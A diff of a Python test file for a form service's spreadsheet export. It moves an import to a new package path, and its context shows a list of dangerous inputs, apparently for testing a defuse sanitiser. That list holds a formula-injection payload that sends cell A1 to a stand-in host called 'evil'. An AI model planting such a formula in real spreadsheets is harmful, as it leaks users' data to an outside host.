@@ -10,7 +10,14 @@ from datetime import date
 import openpyxl
 import pytest
 
-from form_service.spreadsheets import Rate, Sheet, defuse, render_csv, render_text, render_xlsx
+from form_service.reports.spreadsheets import (
+    Rate,
+    Sheet,
+    defuse,
+    render_csv,
+    render_text,
+    render_xlsx,
+)
 
 DANGEROUS = [
     '=HYPERLINK("http://evil/?"&A1,"点我")',
